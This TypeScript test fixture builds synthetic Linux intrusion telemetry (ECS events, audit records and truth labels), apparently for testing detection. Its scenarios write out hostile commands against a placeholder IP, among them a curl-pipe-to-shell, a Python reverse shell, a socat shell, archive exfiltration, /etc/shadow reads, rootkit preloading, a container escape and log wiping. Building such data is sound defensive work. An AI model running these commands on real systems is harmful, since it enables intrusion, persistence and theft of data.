/**
 * Intrusions of other kinds than the recorded ones, for tests: each a few processes as an agent would report them, in the
 * shape of the recordings' ECS and audit records, to be read together with a recording's honest work.
 */
export interface Step {
  /** of the process, below 100; steps of one number are one process that runs another image */
  readonly id: number;
  /** of the parent; 0: a process that had run for long */
  readonly by: number;
  readonly image: string;
  readonly argv: readonly string[];
  readonly cwd?: string;
  readonly creates?: readonly string[];
  readonly chmods?: readonly (readonly [path: string, mode: string])[];
  readonly connects?: readonly (readonly [ip: string, port: number])[];
}

export interface Intrusion {
  readonly name: string;
  readonly host: string;
  readonly user: readonly [name: string, uid: string];
  readonly steps: readonly Step[];
}

const OUT = '198.51.100.99';
const sh = (id: number, by: number, script: string, more: Partial<Step> = {}): Step => ({
  id,
  by,
  image: '/usr/bin/dash',
  argv: ['sh', '-c', script],
  ...more,
});
const run = (id: number, by: number, line: string, more: Partial<Step> = {}): Step => {
  const argv = line.split(' ');
  return { id, by, image: argv[0]!.startsWith('/') ? argv[0]! : `/usr/bin/${argv[0]}`, argv, ...more };
};

export const INTRUSIONS: readonly Intrusion[] = [
  {
    name: 'cron from a piped script',
    host: 'db-01',
    user: ['root', '0'],
    steps: [
      sh(1, 0, `curl -fsSL http://${OUT}/i.sh | sh`),
      run(2, 1, `curl -fsSL http://${OUT}/i.sh`, { connects: [[OUT, 80]] }),
      { id: 3, by: 1, image: '/usr/bin/dash', argv: ['sh'] },
      run(4, 3, `wget -q http://${OUT}/u -O /usr/local/bin/sysupd`, {
        connects: [[OUT, 80]],
        creates: ['/usr/local/bin/sysupd'],
      }),
      run(5, 3, 'chmod 755 /usr/local/bin/sysupd', { chmods: [['/usr/local/bin/sysupd', '0755']] }),
      run(6, 3, 'tee /etc/cron.d/sysupd', { creates: ['/etc/cron.d/sysupd'] }),
      run(7, 3, 'crontab -', { creates: ['/var/spool/cron/crontabs/root'] }),
      run(8, 3, '/usr/local/bin/sysupd -d', { connects: [[OUT, 8443]] }),
    ],
  },
  {
    name: 'web shell to remote shell',
    host: 'web-01',
    user: ['www-data', '33'],
    steps: [
      sh(1, 0, 'id; uname -a; cat /etc/passwd'),
      run(2, 1, 'id'),
      run(3, 1, 'cat /etc/passwd'),
      sh(
        4,
        0,
        'python3 -c "import socket,os,pty;s=socket.socket();s.connect((0,1));os.dup2(s.fileno(),0);pty.spawn(1)"',
      ),
      {
        id: 5,
        by: 4,
        image: '/usr/bin/python3.11',
        argv: [
          'python3',
          '-c',
          `import socket,os,pty;s=socket.socket();s.connect(("${OUT}",443));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")`,
        ],
        connects: [[OUT, 443]],
      },
      { id: 6, by: 5, image: '/usr/bin/dash', argv: ['/bin/sh'] },
      run(7, 6, 'find / -perm -4000 -type f'),
      run(8, 6, 'cat /etc/shadow'),
    ],
  },
  {
    name: 'keys, staging and sending',
    host: 'ci-01',
    user: ['root', '0'],
    steps: [
      { id: 1, by: 0, image: '/usr/bin/bash', argv: ['-bash'] },
      run(2, 1, 'cat /etc/shadow'),
      run(3, 1, 'tee -a /root/.ssh/authorized_keys', { creates: ['/root/.ssh/authorized_keys'] }),
      run(4, 1, 'tar czf /dev/shm/.s.tgz /home /etc', { creates: ['/dev/shm/.s.tgz'] }),
      run(5, 1, `curl -s -T /dev/shm/.s.tgz http://${OUT}/`, { connects: [[OUT, 80]] }),
      run(6, 1, 'rm -f /dev/shm/.s.tgz /root/.bash_history'),
      run(7, 1, 'useradd -o -u 0 support'),
    ],
  },
  {
    name: 'preload and kernel module',
    host: 'db-01',
    user: ['root', '0'],
    steps: [
      { id: 1, by: 0, image: '/usr/bin/bash', argv: ['-bash'] },
      run(2, 1, 'gcc -shared -fPIC -o /usr/lib/libsys.so.1 x.c', {
        cwd: '/var/tmp/.w',
        creates: ['/usr/lib/libsys.so.1'],
      }),
      sh(3, 1, 'echo /usr/lib/libsys.so.1 > /etc/ld.so.preload', { creates: ['/etc/ld.so.preload'] }),
      { id: 4, by: 1, image: '/usr/bin/kmod', argv: ['insmod', './rk.ko'], cwd: '/var/tmp/.w' },
      run(5, 1, 'chattr +i /etc/ld.so.preload'),
      run(6, 1, 'systemctl stop auditd'),
      run(7, 1, 'touch -r /bin/ls /usr/lib/libsys.so.1'),
    ],
  },
  {
    name: 'from memory',
    host: 'web-01',
    user: ['www-data', '33'],
    steps: [
      sh(1, 0, `echo cGVybA== | base64 -d | perl`),
      run(2, 1, 'base64 -d'),
      {
        id: 3,
        by: 1,
        image: '/usr/bin/perl',
        argv: ['perl', '-e', 'syscall(319,$n,1);exec {"/proc/$$/fd/3"} "nginx"'],
      },
      { id: 4, by: 3, image: '/memfd:x (deleted)', argv: ['nginx: worker process'], connects: [[OUT, 443]] },
      run(5, 4, 'nproc'),
    ],
  },
  {
    name: "a user's own unit",
    host: 'ws-alice',
    user: ['alice', '20001'],
    steps: [
      { id: 1, by: 0, image: '/usr/bin/bash', argv: ['bash', '-l'] },
      run(2, 1, `curl -s -o /home/alice/.local/share/.upd/agent http://${OUT}/a`, {
        connects: [[OUT, 80]],
        creates: ['/home/alice/.local/share/.upd/agent'],
      }),
      run(3, 1, 'chmod +x /home/alice/.local/share/.upd/agent', {
        chmods: [['/home/alice/.local/share/.upd/agent', '0755']],
      }),
      run(4, 1, 'tee /home/alice/.config/systemd/user/upd.service', {
        creates: ['/home/alice/.config/systemd/user/upd.service'],
      }),
      run(5, 1, 'systemctl --user enable --now upd.service'),
      run(6, 1, '/home/alice/.local/share/.upd/agent', { connects: [[OUT, 9001]] }),
    ],
  },
  {
    name: 'setuid shell, traces removed',
    host: 'ws-bob',
    user: ['root', '0'],
    steps: [
      { id: 1, by: 0, image: '/usr/bin/bash', argv: ['bash', '-i'] },
      run(2, 1, 'cp /bin/bash /var/tmp/.b', { creates: ['/var/tmp/.b'] }),
      run(3, 1, 'chmod 4755 /var/tmp/.b', { chmods: [['/var/tmp/.b', '4755']] }),
      { id: 4, by: 1, image: '/var/tmp/.b', argv: ['/var/tmp/.b', '-p'] },
      run(5, 4, 'rm -f /var/log/auth.log'),
      sh(6, 4, 'unset HISTFILE; history -c'),
    ],
  },
  {
    name: 'tunnel and container escape',
    host: 'ci-01',
    user: ['root', '0'],
    steps: [
      { id: 1, by: 0, image: '/usr/bin/bash', argv: ['bash'] },
      run(2, 1, `curl -s --unix-socket /var/run/docker.sock http://x/containers/json`),
      run(3, 1, 'nsenter -t 1 -m -u -i -n -p sh'),
      run(4, 3, `ssh -f -N -R 2222:localhost:22 eve@${OUT}`, { connects: [[OUT, 22]] }),
      run(5, 3, `socat TCP:${OUT}:443 EXEC:/bin/sh`, { connects: [[OUT, 443]] }),
      run(6, 3, 'crontab -', { creates: ['/var/spool/cron/crontabs/root'] }),
    ],
  },
];

const FIRST_PID = 90_000;
/** Each intrusion has pids of its own. */
const basePid = (name: string): number => FIRST_PID + 100 * INTRUSIONS.findIndex((one) => one.name === name);
const SHELL_ID = 0;
/** How long before the first step its parent had begun: a lineage ends below what ran for a minute. */
const LONG_MS = 10 * 60_000;

const pidOf = (name: string, id: number): number => basePid(name) + id;
const hashOf = (text: string): string =>
  [...text]
    .reduce((sum, c) => (Math.imul(sum, 31) + c.charCodeAt(0)) >>> 0, 7)
    .toString(16)
    .padStart(8, '0')
    .repeat(3);
const entityOf = (name: string, id: number, image: string): string => hashOf(`${name} ${id} ${image}`);

/** Labels in the shape of a truth file. */
export function truthOf({ name, host, steps }: Intrusion) {
  return {
    [name]: {
      host,
      root_pid: pidOf(name, steps[0]!.id),
      process_entity_ids: steps.map(({ id, image }) => entityOf(name, id, image)),
    },
  };
}

/** @param at epoch ms of the first step; @param hostId the agent's id of the host */
export function ecsLines({ name, host, user, steps }: Intrusion, at: number, hostId: string): string[] {
  let serial = 10 * basePid(name);
  const lines: string[] = [];
  const byId = new Map(steps.map((step) => [step.id, step]));
  const emit = (time: number, action: string, process: object, more: object = {}) =>
    lines.push(
      JSON.stringify({
        '@timestamp': new Date(time).toISOString(),
        ecs: { version: '8.11.0' },
        host: { id: hostId, name: host, hostname: host, os: { type: 'linux', platform: 'debian' } },
        user: { id: user[1], name: user[0] },
        agent: { type: 'endpoint', version: '8.x' },
        event: { ...EVENTS[action], action, id: `${host}-${serial++}` },
        process,
        ...more,
      }),
    );
  emit(at - LONG_MS, 'exec', {
    pid: pidOf(name, SHELL_ID),
    entity_id: entityOf(name, SHELL_ID, '/usr/sbin/sshd'),
    executable: '/usr/sbin/sshd',
    name: 'sshd',
    args: ['/usr/sbin/sshd', '-D'],
    command_line: '/usr/sbin/sshd -D',
    working_directory: '/',
    parent: { pid: 1, executable: '/usr/lib/systemd/systemd' },
  });
  for (const [i, { id, by, image, argv, cwd = '/', creates = [], chmods = [], connects = [] }] of steps.entries()) {
    const time = at + i * 700;
    const parent = byId.get(by);
    const parentImage = parent?.image ?? '/usr/sbin/sshd';
    const self = {
      pid: pidOf(name, id),
      entity_id: entityOf(name, id, image),
      executable: image,
      name: image.split('/').at(-1),
      args: argv,
      command_line: argv.join(' '),
      working_directory: cwd,
      parent: {
        pid: pidOf(name, by),
        entity_id: entityOf(name, by, parentImage),
        executable: parentImage,
        args: parent?.argv ?? ['/usr/sbin/sshd', '-D'],
        command_line: (parent?.argv ?? ['/usr/sbin/sshd', '-D']).join(' '),
      },
    };
    emit(time, 'exec', self);
    for (const path of creates)
      emit(time + 5, 'creation', self, { file: { path, name: path.split('/').at(-1), mode: '0644' } });
    for (const [path, mode] of chmods)
      emit(time + 6, 'chmod', self, { file: { path, name: path.split('/').at(-1), mode } });
    for (const [ip, port] of connects)
      emit(time + 7, 'connection_attempted', self, {
        destination: { ip, port },
        network: { direction: 'egress', transport: 'tcp', type: 'ipv4' },
      });
  }
  return lines;
}

const EVENTS: Record<string, object> = {
  exec: { kind: 'event', category: ['process'], type: ['start'], dataset: 'endpoint.events.process' },
  creation: { kind: 'event', category: ['file'], type: ['creation'], dataset: 'endpoint.events.file' },
  chmod: { kind: 'event', category: ['file'], type: ['change'], dataset: 'endpoint.events.file' },
  connection_attempted: { kind: 'event', category: ['network'], type: ['start'], dataset: 'endpoint.events.network' },
};

const hex = (text: string): string => Buffer.from(text).toString('hex').toUpperCase();
const quoted = (text: string): string => (/^[\x21\x23-\x7e]*$/.test(text) ? `"${text}"` : hex(text));

/** The same as the kernel's audit subsystem tells it. */
export function auditLines({ name, host, user, steps }: Intrusion, at: number): string[] {
  const lines: string[] = [];
  let serial = 10 * basePid(name);
  const record = (time: number, step: Step, syscall: number, key: string, records: readonly string[]) => {
    const id = `msg=audit(${(time / 1000).toFixed(3)}:${serial++}):`;
    const uid = user[1];
    const ids = `auid=${uid} uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid}`;
    const comm = step.image.split('/').at(-1)!.slice(0, 15);
    lines.push(
      `node=${host} type=SYSCALL ${id} arch=c000003e syscall=${syscall} success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=${step.id === SHELL_ID ? 1 : pidOf(name, step.by)} pid=${pidOf(name, step.id)} ${ids} tty=(none) ses=77 comm=${quoted(comm)} exe=${quoted(step.image)} key="${key}"`,
      ...records.map((one) => `node=${host} ${one.replace('MSG', id)}`),
      `node=${host} type=PROCTITLE ${id} proctitle=${hex(step.argv.join('\0'))}`,
    );
  };
  const path = (name: string, type: string, mode: string) =>
    `type=PATH MSG item=0 name=${quoted(name)} inode=7 dev=fe:00 mode=010${mode} ouid=0 ogid=0 rdev=00:00 nametype=${type} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`;
  const exec = (time: number, step: Step) =>
    record(time, step, 59, 'exec', [
      `type=EXECVE MSG argc=${step.argv.length} ${step.argv.map((one, n) => `a${n}=${quoted(one)}`).join(' ')}`,
      `type=CWD MSG cwd=${quoted(step.cwd ?? '/')}`,
      path(step.image, 'NORMAL', '0755'),
    ]);
  exec(at - LONG_MS, { id: SHELL_ID, by: SHELL_ID, image: '/usr/sbin/sshd', argv: ['/usr/sbin/sshd', '-D'] });
  for (const [i, step] of steps.entries()) {
    const time = at + i * 700;
    exec(time, step);
    const cwd = `type=CWD MSG cwd=${quoted(step.cwd ?? '/')}`;
    for (const one of step.creates ?? []) record(time + 5, step, 257, 'files', [cwd, path(one, 'CREATE', '0644')]);
    for (const [one, mode] of step.chmods ?? [])
      record(time + 6, step, 268, 'perm_mod', [cwd, path(one, 'NORMAL', mode)]);
    for (const [ip, port] of step.connects ?? []) {
      const saddr = `0200${port.toString(16).padStart(4, '0')}${ip
        .split('.')
        .map((n) => Number(n).toString(16).padStart(2, '0'))
        .join('')}0000000000000000`;
      record(time + 7, step, 42, 'net', [`type=SOCKADDR MSG saddr=${saddr.toUpperCase()}`]);
    }
  }
  return lines;
}
